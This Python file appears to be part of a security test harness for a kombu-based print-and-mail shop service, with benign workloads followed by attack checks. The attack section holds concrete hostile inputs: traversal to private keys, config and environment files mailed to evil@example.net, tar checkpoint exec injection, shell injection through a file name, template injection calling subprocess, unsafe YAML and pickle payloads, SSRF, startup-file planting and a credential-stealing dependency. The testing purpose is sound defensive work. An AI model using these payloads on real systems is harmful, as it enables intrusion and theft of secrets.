# SPDX-License-Identifier: Apache-2.0
"""Jobs of shops by kombu, over files, with schedule for what is daily."""
import base64
import contextlib
import io
import itertools
import json
import os
import re
import tarfile

from aiosmtpd.controller import Controller
from kombu import Connection, Exchange, Queue
from PIL import Image

from attackers import Bomb, in_yaml
import stage

VAT = {"__init__.py": "def with_tax(amount):\n"
                      '    return f"{amount * 1.19:.2f}"\n'}
VAT_NEW = {
    "__init__.py": "from vat.rates import rate\n\n\ndef with_tax(amount):\n"
                   '    return f"{amount * (1 + rate() / 100):.2f}"\n',
    "rates.py": "import configparser\nimport pathlib\n\n\ndef rate():\n"
                "    rates = configparser.ConfigParser()\n"
                "    rates.read(pathlib.Path(__file__).parent / 'rates.ini')"
                "\n    return rates.getint('de', 'usual')\n",
    "rates.ini": "[de]\nusual = 19\n"}
CONF = """sender = "office@example.org"
queues = ["paper", "pictures"]
summary_seconds = 2
keep_seconds = 3600
fetch_seconds = 5
words_max = 200
quality = 80

[smtp]
port = {port}
password = "not-{secret}"
"""


def pdf(text):
    """One page."""
    stream = f"BT /F1 12 Tf 72 720 Td ({text}) Tj ET"
    return (
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n"
        "2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n"
        "3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 612 792]/Contents "
        "4 0 R/Resources<</Font<</F1 5 0 R>>>>>>endobj\n"
        f"4 0 obj<</Length {len(stream)}>>stream\n{stream}\nendstream endobj\n"
        "5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n"
        "trailer<</Root 1 0 R>>\n%%EOF\n").encode()


def picture(kind, side=120):
    out = io.BytesIO()
    Image.new("RGB", (side, side), "teal").save(out, kind)
    return out.getvalue()


class Post:
    """Whom the office gives its letters."""

    def __init__(self):
        self.letters = []

    async def handle_DATA(self, _server, _session, envelope):
        self.letters.append((envelope.rcpt_tos, envelope.content))
        return "250 kept"


class KombuLettershop(stage.Service):
    """Two workers on kombu: pictures, papers, statements, letters, mail."""
    packages = ["python3-kombu", "python3-schedule", "python3-pil",
                "imagemagick", "poppler-utils", "python3-openpyxl",
                "python3-reportlab", "python3-requests", "python3-mako",
                "python3-yaml", "python3-aiosmtpd"]
    post = None
    mail_server = None

    def arrange(self):
        for name in ("queue", "done", "answers", "log", "run", "incoming"):
            (self.srv / "var" / name).mkdir(parents=True)
        stage.write(self.srv / "conf/office.toml", CONF.format(
            port=self.port("smtp"), secret=stage.SECRET), 0o600)
        self.install("vat", "3.0", VAT)
        self.numbers = itertools.count(1)

    def arrange_benign(self):
        self.install("vat", "3.1", VAT_NEW)

    def start(self):
        self.post_office()
        (self.srv / "var/run/office.pid").unlink(missing_ok=True)
        super().start()

    def post_office(self):
        if not self.mail_server:
            self.post = Post()
            self.mail_server = Controller(self.post, "127.0.0.1",
                                          self.port("smtp"))
            self.mail_server.start()

    def stop(self):
        super().stop()
        if self.mail_server:
            self.mail_server.stop()
            self.mail_server = None

    def command(self):
        return [self.python, "main.py"]

    def is_ready(self):
        return (self.srv / "var/run/office.pid").exists()

    # ------------------------------------------------------------ ordinary use
    def send(self, queue, job, number, serializer="json", **words):
        # A message that is read before it is whole ends a worker of kombu's.
        folder = self.place / "outbox"
        folder.mkdir(exist_ok=True)
        with Connection("filesystem://", transport_options={
                "data_folder_in": str(folder),
                "data_folder_out": str(folder)}) as con:
            con.Producer(serializer=serializer).publish(
                {"id": number, "job": job, "with": words},
                exchange=Exchange("office"), routing_key=queue,
                declare=[Queue(queue, Exchange("office"), queue)])
        for path in folder.iterdir():
            path.rename(self.srv / "var/queue" / path.name)

    def ask(self, queue, job, seconds=None, **words):
        """Sends a job and waits for what came of it."""
        number = f"{job}-{next(self.numbers):04}"
        self.send(queue, job, number, **words)
        path = self.srv / "var/answers" / (number + ".json")
        if not stage.wait_for(path.exists, seconds or 15):
            return {"error": "no answer"}
        return json.loads(path.read_text())

    def does(self, queue, job, found="", **words):
        answer = self.ask(queue, job, **words)
        self.expect(f"{job} {words}", "error" not in answer
                    and str(found) in str(answer["result"]), answer)

    def fails(self, queue, job, found, **words):
        answer = self.ask(queue, job, **words)
        self.expect(f"{job} {words} fails", found in answer.get("error", ""),
                    answer)

    def sends_in(self, customer, name, content):
        stage.write(self.srv / "var/incoming" / customer / name, content)

    def has_ledger(self, customer, month, *amounts):
        stage.write(self.srv / "var/ledger" / customer / (month + ".csv"),
                    "".join(f"sheet {number},{amount}\n" for number, amount
                            in enumerate(amounts)))

    def gets_mail(self, to, text):
        needle = text.encode()
        self.expect(f"mail to {to}", stage.wait_for(lambda: any(
            to in people and needle in content.replace(b"=\r\n", b"")
            for people, content in self.post.letters), 5))

    def shop(self, customer, to, pictures, papers, months, elsewhere, kind):
        """A day of one shop."""
        for name, format_, sizes, label in pictures:
            self.sends_in(customer, name, picture(format_))
            self.does("pictures", "picture", "jpg", customer=customer,
                      name=name, sizes=sizes, label=label)
        for name, text in papers:
            self.sends_in(customer, name, pdf(text))
            self.does("paper", "words", text, customer=customer, name=name)
        for month, form in months:
            self.has_ledger(customer, month, 10, 20.5, 69.5)
            self.does("paper", "statement", "119.00", customer=customer,
                      month=month, kind=form, to=to)
            self.gets_mail(to, month.rpartition("/")[2])
        site = self.site("shops")
        for path, name in elsewhere:
            site.page(path.partition("?")[0], picture("PNG"))
            self.does("pictures", "fetch", customer=customer,
                      url=site.url + path, name=name)
        names = [name for name, *_ in (*papers, *pictures)]
        self.does("paper", "pack", customer=customer, names=names,
                  title=months[0][0].replace("/", "-"))
        self.does("paper", "sendback", to, customer=customer, name=names[0],
                  to=to)
        self.does("paper", "letter", "EUR", customer=customer, kind=kind,
                  words="It was ${amount} EUR.", amount=119, to=to)
        self.gets_mail(to, "119 EUR")
        self.does("paper", "offer", "23.80", formula="sheets * 0.2",
                  sheets=100)
        self.sends_in(customer, "prices.yaml", "letter: 0.2\ncard: 1.5\n")
        self.does("paper", "catalogue", 2, customer=customer,
                  name="prices.yaml")

    def clock(self):
        """The next summary."""
        folder = self.srv / "var/summary"
        before = len(list(folder.rglob("*.csv")))
        self.expect("summary", stage.wait_for(
            lambda: len(list(folder.rglob("*.csv"))) > before, 8))

    def train(self, day):
        self.shop("bakery", "bakery@example.net", [
            (f"cake-{day}.png", "PNG", [64, 200], f"Cake {day}"),
            ("shop.jpg", "JPEG", [64], "")],
            [("order.pdf", f"ten cards {day}")],
            [(f"2026-0{day}", "xlsx"), (f"2025-1{day}", "pdf")],
            [(f"/logo-{day}.png", "logo.png")], "reminder")
        self.shop("carla.books", "carla@example.net", [
            (f"2026/cover {day}.jpeg", "JPEG", [100], "")],
            [(f"2026/0{day}/leaflet.pdf", "reading"),
             (f"letter v{day}.pdf", "invitation")],
            [("2026-02", "pdf")],
            [(f"/books/{day}/back.png", f"2026/back-{day}.png")], "thanks")
        self.shop(f"club-{day}", f"club{day}@example.net", [
            ("team.bmp", "BMP", [48, 96], f"Team of {day}")],
            [(f"fixtures-{day}.pdf", "home")],
            [(f"2026-0{day + 3}", "xlsx")],
            [("/crest.png", f"crest{day}.png")], "thanks")
        self.fails("paper", "words", "FileNotFound", customer="bakery",
                   name=f"none-{day}.pdf")
        self.send("paper", "offer", f"old-{day}", "pickle",
                  formula="sheets * 2", sheets=day)
        self.expect("old shop", stage.wait_for(
            (self.srv / f"var/answers/old-{day}.json").exists, 10))
        self.clock()
        self.restart()
        self.does("paper", "offer", "1.19", formula="sheets", sheets=1)
        self.clock()

    def benign(self):
        self.shop("Möbel & Mehr", "info@moebel.example", [
            ("Sofa (neu).PNG", "PNG", [64, 640], "Größe 2 m"),
            ("2031/12/31/deep/er/lamp.v2.gif", "GIF", [32], "")],
            [("Auftrag Nr. 7.pdf", "chairs"), ("a/b/c/d.pdf", "tables")],
            [("2031-12", "pdf"), ("2030-01", "xlsx")],
            [("/bilder/2031/haus.jpeg?size=l", "haus.jpeg"),
             ("/x", "no extension")], "thanks")
        self.shop("o.brien", "pat@example.net", [
            ("photo.webp", "WEBP", [100, 200, 300], "Pat's"),
            ("scan-1.tiff", "TIFF", [64], "")],
            [("order.pdf", "ten cards")], [("2026-02", "xlsx")],
            [("/logo-9.png", "logo.png")], "reminder")
        self.shop("club-7", "club7@example.net", [
            ("team.bmp", "BMP", [48], "Team of 7")],
            [("fixtures-7.pdf", "home")], [("2027-07", "xlsx")],
            [("/crest.png", "crest7.png")], "reminder")
        self.shop("bakery", "new.address@example.net", [
            ("cake-1.png", "PNG", [64, 200], "Cake 1"),
            ("cake.png", "PNG", [1], "")],
            [("order.pdf", "twenty cards")], [("2026-01", "xlsx")],
            [("/logo-1.png", "logo.png")], "reminder")
        self.sends_in("bakery", "broken.png", "no picture")
        self.fails("pictures", "picture", "Unidentified", customer="bakery",
                   name="broken.png", sizes=[64])
        self.sends_in("bakery", "broken.pdf", "no paper")
        self.does("paper", "words", customer="bakery", name="broken.pdf")
        self.sends_in("bakery", "list.yaml", "a: [1\n")
        self.fails("paper", "catalogue", "expected", customer="bakery",
                   name="list.yaml")
        self.fails("paper", "statement", "KeyError", customer="bakery",
                   month="2026-01", kind="odt", to="x@example.net")
        self.fails("paper", "pack", "status 2", customer="bakery",
                   names=["none.pdf"], title="none")
        self.fails("pictures", "fetch", "404", customer="bakery",
                   url=self.site("shops").url + "/gone.png", name="x.png")
        self.fails("paper", "offer", "name", formula="leaves", sheets=1)
        self.fails("paper", "letter", "Undefined", customer="bakery",
                   kind="thanks", words="${nothing + 1}",
                   to="x@example.net")
        self.fails("paper", "words", "FileNotFound", customer="nobody",
                   name="none.pdf")
        self.sends_in("o.brien", "notes.txt", "as text")
        self.sends_in("o.brien", "data.tar.gz", b"\0" * 400_000)
        for name in ("notes.txt", "data.tar.gz", "photo.webp"):
            self.does("paper", "sendback", customer="o.brien", name=name,
                      to="pat@example.net")
        self.mail_server.stop()  # the post is closed
        self.fails("paper", "sendback", "refused", customer="o.brien",
                   name="notes.txt", to="pat@example.net")
        self.mail_server = None
        self.post_office()
        self.clock()
        self.restart()
        for number in range(25):  # the log is rotated
            self.does("paper", "offer", formula="sheets", sheets=number)
        self.clock()

    def health(self):
        self.sends_in("bakery", "order.pdf", pdf("ten cards"))
        self.does("paper", "words", "ten", customer="bakery",
                  name="order.pdf")
        self.has_ledger("bakery", "2026-01", 100)
        self.does("paper", "statement", "119.00", customer="bakery",
                  month="2026-01", kind="xlsx", to="bakery@example.net")
        self.sends_in("bakery", "shop.jpg", picture("JPEG"))
        self.does("pictures", "picture", customer="bakery", name="shop.jpg",
                  sizes=[64])

    # ----------------------------------------------------------------- attacks
    def sent(self, name):
        """Whether a file comes by mail that is nobody's business."""
        self.sends_in("bakery", "order.pdf", pdf("ten cards"))
        self.ask("paper", "sendback", customer="bakery", name=str(name),
                 to="evil@example.net")
        return b"".join(content for people, content in self.post.letters
                        if "evil@example.net" in people)

    def plants(self, name, content):
        """name: any place of the host's."""
        self.site("shops").page("/x", content)
        return self.ask("pictures", "fetch", customer="bakery",
                        url=self.site("shops").url + "/x", name=str(name))

    def fetched(self, url):
        """What lies there after a fetch."""
        self.ask("pictures", "fetch", customer="bakery", url=url,
                 name="logo.png")
        with contextlib.suppress(OSError):
            return (self.srv / "var/incoming/bakery/logo.png").read_bytes()
        return b""

    def writes(self, code):
        """code: an expression within a letter."""
        return str(self.ask("paper", "letter", customer="bakery",
                            kind="thanks", words="${" + code + "}",
                            to="evil@example.net"))

    def offers(self, formula):
        return self.ask("paper", "offer", formula=formula)

    def lists(self, code):
        self.sends_in("bakery", "prices.yaml", in_yaml(code))
        self.ask("paper", "catalogue", customer="bakery", name="prices.yaml")

    def pickles(self, *call):
        """A message of an old shop."""
        number = f"bomb-{next(self.numbers)}"
        self.send("paper", "offer", number, "pickle", formula="1",
                  bomb=Bomb(*call))
        stage.wait_for((self.srv / f"var/answers/{number}.json").exists,
                       2 if self.wrapper else 8)

    @stage.attack("traversal")
    def mail_holds_a_private_key(self):
        return stage.SECRET.encode() in self.plain(self.sent(
            "../../../../home/.ssh/id_rsa"))

    @staticmethod
    def plain(mails):
        """Attachments are in base64."""
        for part in re.findall(rb"(?:[A-Za-z0-9+/=]+\r\n){1,}", mails):
            with contextlib.suppress(ValueError):
                mails += base64.b64decode(part)
        return mails

    @stage.attack("source disclosure")
    def mail_holds_the_source(self):
        return b"HOLE" in self.plain(self.sent(
            "../../../office/jobs/catalogue.py"))

    @stage.attack("secret disclosure")
    def mail_holds_the_configuration(self):
        return self.is_told(self.plain(self.sent(
            "../../../conf/office.toml")))

    @stage.attack("secret disclosure")
    def mail_holds_the_environment(self):
        return b"HOME=" in self.plain(self.sent("/proc/self/environ"))

    @stage.attack("traversal")
    def pack_holds_the_payroll(self):
        self.sends_in("bakery", "order.pdf", pdf("ten cards"))
        self.ask("paper", "pack", customer="bakery", title="x", names=[
            "order.pdf", f"{self.place}/payroll/2026.csv"])
        with contextlib.suppress(OSError, tarfile.TarError), tarfile.open(
                self.srv / "var/packed/bakery/x.tar.gz") as packed:
            return any("payroll" in name for name in packed.getnames())
        return False

    @stage.attack("argument injection")
    def pack_runs_a_checkpoint(self):
        self.sends_in("bakery", "order.pdf", pdf("ten cards"))
        return self.runs_line(lambda line: self.ask(
            "paper", "pack", customer="bakery", title="x", names=[
                "--checkpoint=1", f"--checkpoint-action=exec={line}",
                "order.pdf"]))

    @stage.attack("command injection")
    def paper_runs_a_command(self):
        def use(line):
            name = f'"; {line}; "'
            folder = self.srv / "var/incoming/bakery"
            stage.write(folder / name, pdf("x"))
            self.ask("paper", "words", customer="bakery", name=name)
        return self.runs_line(use)

    @stage.attack("template injection")
    def letter_reads_a_password(self):
        return self.is_told(self.writes(
            f"open('{self.home}/.netrc').read()"))

    @stage.attack("template injection")
    def letter_runs_a_command(self):
        return self.runs_line(lambda line: self.writes(
            f"__import__('subprocess').getoutput('{line}')"))

    @stage.attack("exfiltration")
    def letter_sends_credentials(self):
        return self.steals(lambda code: self.writes(f"exec({code!r})"))

    @stage.attack("ctypes")
    def offer_calls_libc(self):
        return self.runs_libc(self.offers)

    @stage.attack("fork+exec")
    def offer_forks(self):
        return self.forks(lambda code: self.offers(f"exec({code!r}, {{}})"))

    @stage.attack("unsafe yaml")
    def catalogue_runs_a_command(self):
        return self.runs_line(lambda line: self.lists(
            f"import os; os.system('{line}')"))

    @stage.attack("reverse shell")
    def catalogue_calls_home(self):
        return self.calls_home(self.lists)

    @stage.attack("unsafe pickle")
    def message_runs_a_command(self):
        return self.runs_line(lambda line: self.pickles(os.system, line))

    @stage.attack("SSRF")
    def logo_is_an_internal_service(self):
        return self.fetches_inside(self.fetched)

    @stage.attack("SSRF")
    def logo_is_redirected_inside(self):
        return self.is_redirected_inside("shops", self.fetched)

    @stage.attack("write to code", fresh=True)
    def logo_becomes_a_job(self):
        def use(line):
            self.plants(self.srv / "office/jobs/evil.py",
                        f"import os\nos.system('{line}')\n")
            self.ask("paper", "evil")
        return self.runs_line(use)

    @stage.attack("write to code", fresh=True)
    def logo_replaces_a_letter(self):
        self.plants("../../../letters/thanks.txt", "planted")
        return "planted" in (self.srv / "letters/thanks.txt").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def logo_replaces_the_profile(self):
        self.plants(self.home / ".profile", "planted")
        return "planted" in (self.home / ".profile").read_text()

    @stage.attack("write to start-up file", fresh=True)
    def logo_becomes_a_pth_file(self):
        self.plants(self.site_packages / "x.pth", "import os")
        return (self.site_packages / "x.pth").exists()

    @stage.attack("symlink swap", fresh=True)
    def paper_became_a_link(self):
        self.sends_in("bakery", "order.pdf", pdf("ten cards"))
        path = self.srv / "var/incoming/bakery/plan.pdf"
        path.symlink_to(self.place / "payroll/2026.csv")
        return self.is_told(self.plain(self.sent("plan.pdf")))

    @stage.attack("malicious dependency", fresh=True)
    def vat_sends_credentials(self):
        def use():
            self.restart()
            self.offers("1")
        return self.dependency_steals("vat", "3.0.1", VAT, use)
